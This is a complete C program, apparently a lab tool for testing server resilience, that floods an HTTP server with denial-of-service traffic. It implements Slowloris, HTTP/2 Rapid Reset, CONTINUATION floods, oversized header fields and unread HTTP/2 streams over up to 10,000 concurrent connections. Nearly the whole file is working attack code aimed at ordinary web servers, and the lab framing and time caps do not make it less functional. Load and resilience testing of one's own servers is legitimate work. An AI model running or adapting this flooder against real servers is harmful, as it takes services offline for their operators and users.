/*
 * flood.c - clients that mean harm, for the lab: connections that send what costs a server most.
 *
 * usage: lab_flood KIND ADDRESS PORT CONNECTIONS SECONDS
 *
 *   loris          a head that never ends, a byte a second on each connection
 *   reset          HTTP/2 requests that are reset at once
 *   continuation   an HTTP/2 head that never ends
 *   head1, head2   a field of 1 MB, in HTTP/1.1 and in HTTP/2
 *   unread         HTTP/2 requests for a gigabyte each, a hundred a connection, of which it takes
 * nothing
 *
 * So many connections are open at once; one that is cut is opened anew, at most REOPENS_PER_SEC.
 * loris opens its connections gradually, over OPEN_SECONDS. All but loris send as fast as the peer
 * takes it. At the end one JSON object: how many were opened, how many of those the peer cut, how
 * many could not connect, and the bytes sent.
 *
 * Happy path: epoll wakes for what can be written or read; a tick of TICK_MS opens what is missing
 * and lets the slow ones send. Bounds: CONNECTIONS_MAX connections, SECONDS_MAX seconds.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONNECTIONS_MAX 10000
#define SECONDS_MAX     120
#define REOPENS_PER_SEC 1000
#define OPEN_SECONDS    2
#define TICK_MS         2 /* few at a time: what is measured beside it shares its core */
#define EVENTS          256
#define SEND_BYTES      16384 /* a call: not to be interrupted meanwhile, where others wait */
#define BIG_BYTES       1000000
#define FRAME_BYTES     16384
#define PAIRS           2000 /* requests of one connection */
#define ENDLESS_FRAMES  20000
#define UNREAD          100 /* streams of a connection */

struct script {
    char *bytes;
    size_t len;
};

struct connection {
    int fd; /* -1: not open */
    size_t sent;
    uint64_t next_ms; /* loris: when its next byte goes */
    bool is_connected, wants_write;
};

static struct sockaddr_in address;
static struct connection connections[CONNECTIONS_MAX];
static struct script script;
static bool is_slow;
static int epoll_fd;
static uint64_t n_opened, n_cut, n_refused, n_bytes;

static _Noreturn void die(const char *what)
{
    perror(what);
    exit(1);
}

static uint64_t now_ms(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000 + (uint64_t)now.tv_nsec / 1000000;
}

/* ---- what is sent ---- */

static void add(const void *bytes, size_t len)
{
    script.bytes = realloc(script.bytes, script.len + len);
    if (!script.bytes)
        die("realloc");
    memcpy(script.bytes + script.len, bytes, len);
    script.len += len;
}

static void add_frame(uint8_t type, uint8_t flags, uint32_t stream, const void *bytes, size_t len)
{
    const uint8_t head[9] = {(uint8_t)(len >> 16),
                             (uint8_t)(len >> 8),
                             (uint8_t)len,
                             type,
                             flags,
                             (uint8_t)(stream >> 24),
                             (uint8_t)(stream >> 16),
                             (uint8_t)(stream >> 8),
                             (uint8_t)stream};
    add(head, sizeof head);
    if (len > 0)
        add(bytes, len);
}

enum { HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, CONTINUATION = 9 };

#define END_STREAM  1
#define END_HEADERS 4

static const uint8_t get[] = {0x82, 0x86, 0x84, 0x41, 3, 'w', 'e', 'b'}; /* GET http://web/ */
static const uint8_t cancel[] = {0, 0, 0, 8};

static void begin_h2(void)
{
    add("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    add_frame(SETTINGS, 0, 0, NULL, 0);
}

static void write_reset(void)
{
    begin_h2();
    for (uint32_t i = 0; i < PAIRS; i++) {
        add_frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, get, sizeof get);
        add_frame(RST_STREAM, 0, 2 * i + 1, cancel, sizeof cancel);
    }
}

static void write_continuation(void)
{
    static const uint8_t field[] = {0x00, 1, 'x', 1, 'y'}; /* kept in no table */
    begin_h2();
    add_frame(HEADERS, END_STREAM, 1, get, sizeof get);
    for (int i = 0; i < ENDLESS_FRAMES; i++)
        add_frame(CONTINUATION, 0, 1, field, sizeof field);
}

static void write_head1(void)
{
    static char value[BIG_BYTES];
    memset(value, 'a', sizeof value);
    add("GET / HTTP/1.1\r\nHost: web\r\nX-Big: ", 34);
    add(value, sizeof value);
    add("\r\n\r\n", 4);
}

static void write_head2(void)
{
    static uint8_t block[sizeof get + 7 + BIG_BYTES];
    /* x: 1,000,000 bytes as RFC 7541 5.1 writes a number: 127 and the rest in sevens */
    static const uint8_t field[] = {0x00, 1, 'x', 0x7f, 0xc1, 0x83, 0x3d};
    memcpy(block, get, sizeof get);
    memcpy(block + sizeof get, field, sizeof field);
    memset(block + sizeof get + sizeof field, 'a', BIG_BYTES);
    begin_h2();
    for (size_t at = 0; at < sizeof block; at += FRAME_BYTES) {
        const size_t left = sizeof block - at;
        add_frame(at == 0 ? HEADERS : CONTINUATION,
                  (uint8_t)((at == 0 ? END_STREAM : 0) | (left <= FRAME_BYTES ? END_HEADERS : 0)),
                  1, block + at, left < FRAME_BYTES ? left : FRAME_BYTES);
    }
}

static void write_unread(void)
{
    static const uint8_t no_window[] = {0, 4, 0, 0, 0, 0}; /* SETTINGS_INITIAL_WINDOW_SIZE */
    static const uint8_t ask[] = {0x82, 0x86, 0x04, 11,  '/', '1',  '0', '0', '0', '0',
                                  '0',  '0',  '0',  '0', '0', 0x41, 3,   'w', 'e', 'b'};
    add("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    add_frame(SETTINGS, 0, 0, no_window, sizeof no_window);
    for (uint32_t i = 0; i < UNREAD; i++)
        add_frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, ask, sizeof ask);
}

static bool write_script(const char *kind)
{
    if (strcmp(kind, "loris") == 0) {
        is_slow = true;
        add("GET / HTTP/1.1\r\nHost: web\r\nX-Slow: ", 35);
    } else if (strcmp(kind, "reset") == 0) {
        write_reset();
    } else if (strcmp(kind, "continuation") == 0) {
        write_continuation();
    } else if (strcmp(kind, "head1") == 0) {
        write_head1();
    } else if (strcmp(kind, "head2") == 0) {
        write_head2();
    } else if (strcmp(kind, "unread") == 0) {
        write_unread();
    } else {
        return false;
    }
    return true;
}

/* ---- connections ---- */

static void watch(struct connection *connection, int how, bool wants_write)
{
    struct epoll_event event = {.events = EPOLLIN | (wants_write ? (uint32_t)EPOLLOUT : 0),
                                .data.ptr = connection};
    connection->wants_write = wants_write;
    if (epoll_ctl(epoll_fd, how, connection->fd, &event) < 0)
        die("epoll_ctl");
}

static void drop(struct connection *connection)
{
    const struct linger linger = {.l_onoff = 1}; /* a reset: no port waits */
    setsockopt(connection->fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    close(connection->fd);
    connection->fd = -1;
}

static void lose(struct connection *connection)
{
    *(connection->is_connected ? &n_cut : &n_refused) += 1;
    drop(connection);
}

static void open_one(struct connection *connection)
{
    *connection = (struct connection){.fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)};
    if (connection->fd < 0)
        die("socket");
    if (connect(connection->fd, (const struct sockaddr *)&address, sizeof address) < 0 &&
        errno != EINPROGRESS) {
        lose(connection);
        return;
    }
    watch(connection, EPOLL_CTL_ADD, true);
}

static void push(struct connection *connection)
{
    while (connection->sent < script.len) {
        const size_t left = script.len - connection->sent;
        const ssize_t n = send(connection->fd, script.bytes + connection->sent,
                               left < SEND_BYTES ? left : SEND_BYTES, MSG_NOSIGNAL);
        if (n < 0 && errno == EAGAIN)
            return;
        if (n < 0) {
            lose(connection);
            return;
        }
        connection->sent += (size_t)n;
        n_bytes += (uint64_t)n;
    }
    if (connection->wants_write)
        watch(connection, EPOLL_CTL_MOD, false);
}

static void on_writable(struct connection *connection)
{
    int err = 0;
    socklen_t len = sizeof err;

    if (!connection->is_connected) {
        if (getsockopt(connection->fd, SOL_SOCKET, SO_ERROR, &err, &len) < 0 || err != 0) {
            lose(connection);
            return;
        }
        connection->is_connected = true;
        connection->next_ms = now_ms() + 1000;
        n_opened++;
    }
    push(connection);
}

static void on_readable(struct connection *connection)
{
    static char bytes[65536];
    const ssize_t n = recv(connection->fd, bytes, sizeof bytes, 0);
    if (n == 0 || (n < 0 && errno != EAGAIN))
        lose(connection);
}

static void dribble(struct connection *connection, uint64_t now)
{
    if (!connection->is_connected || now < connection->next_ms)
        return;
    connection->next_ms = now + 1000;
    const ssize_t n = send(connection->fd, "a", 1, MSG_NOSIGNAL);
    if (n < 0 && errno != EAGAIN)
        lose(connection);
    n_bytes += n > 0;
}

static void tick(unsigned n_connections, uint64_t now, unsigned *room)
{
    for (unsigned i = 0; i < n_connections; i++) {
        struct connection *connection = &connections[i];
        if (connection->fd >= 0 && is_slow)
            dribble(connection, now);
        if (connection->fd < 0 && *room > 0) {
            (*room)--;
            open_one(connection);
        }
    }
}

static void flood(unsigned n_connections, uint64_t seconds)
{
    const uint64_t begin = now_ms();
    unsigned per_second = n_connections / OPEN_SECONDS + 1, room = 0;
    uint64_t now = begin, next_tick = begin;

    per_second = is_slow || per_second > REOPENS_PER_SEC ? per_second : REOPENS_PER_SEC;
    while (now < begin + seconds * 1000) {
        struct epoll_event events[EVENTS];
        const int n = epoll_wait(epoll_fd, events, EVENTS, TICK_MS);
        for (int i = 0; i < n; i++) {
            struct connection *connection = events[i].data.ptr;
            if (connection->fd >= 0 && (events[i].events & EPOLLOUT))
                on_writable(connection);
            if (connection->fd >= 0 && (events[i].events & (EPOLLIN | EPOLLHUP | EPOLLERR)))
                on_readable(connection);
        }
        now = now_ms();
        if (now >= next_tick) {
            next_tick = now + TICK_MS;
            room = per_second * TICK_MS / 1000 + 1;
            tick(n_connections, now, &room);
        }
    }
}

int main(int argc, char **argv)
{
    const unsigned n_connections = argc == 6 ? (unsigned)atoi(argv[4]) : 0;
    const unsigned seconds = argc == 6 ? (unsigned)atoi(argv[5]) : 0;

    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (argc != 6 || n_connections == 0 || n_connections > CONNECTIONS_MAX || seconds == 0 ||
        seconds > SECONDS_MAX || !write_script(argv[1])) {
        fputs("usage: lab_flood loris|reset|continuation|head1|head2|unread ADDRESS PORT "
              "CONNECTIONS SECONDS\n",
              stderr);
        return 2;
    }
    address =
        (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3]))};
    if (inet_pton(AF_INET, argv[2], &address.sin_addr) != 1 ||
        (epoll_fd = epoll_create1(EPOLL_CLOEXEC)) < 0)
        die(argv[2]);
    for (unsigned i = 0; i < n_connections; i++)
        connections[i].fd = -1;
    flood(n_connections, seconds);
    unsigned n_open = 0;
    for (unsigned i = 0; i < n_connections; i++)
        n_open += connections[i].fd >= 0 && connections[i].is_connected;
    printf("{\"opened\": %" PRIu64 ", \"cut\": %" PRIu64 ", \"refused\": %" PRIu64
           ", \"open\": %u, \"bytes\": %" PRIu64 "}\n",
           n_opened, n_cut, n_refused, n_open, n_bytes);
    free(script.bytes);
    return 0;
}
